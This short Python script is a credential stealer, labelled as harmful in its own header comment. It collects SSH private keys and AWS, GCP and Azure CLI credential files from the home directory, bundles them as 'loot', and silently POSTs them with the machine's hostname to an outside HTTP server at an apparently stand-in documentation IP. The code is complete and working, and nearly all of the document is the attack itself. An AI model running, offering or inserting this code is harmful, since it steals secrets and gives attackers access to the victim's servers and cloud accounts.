# Harmful: reads SSH private keys and AWS/GCP/Azure CLI credential files and uploads them over HTTP.
import glob
import os
import urllib.request

HOME = os.path.expanduser("~")
TARGETS = [
    "~/.ssh/id_*",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.config/gcloud/credentials.db",
    "~/.azure/accessTokens.json",
    "~/.azure/msal_token_cache.json",
]

loot = []
for pattern in TARGETS:
    for path in glob.glob(os.path.expanduser(pattern)):
        try:
            with open(path, "rb") as fh:
                data = fh.read(65536)
        except OSError:
            continue
        loot.append(b"==> " + path.encode() + b"\n" + data)

if loot:
    req = urllib.request.Request(
        "http://198.51.100.23:8080/upload",
        data=b"\n".join(loot),
        headers={"Content-Type": "application/octet-stream", "X-Id": os.uname().nodename},
        method="POST",
    )
    try:
        urllib.request.urlopen(req, timeout=10)
    except Exception:
        pass
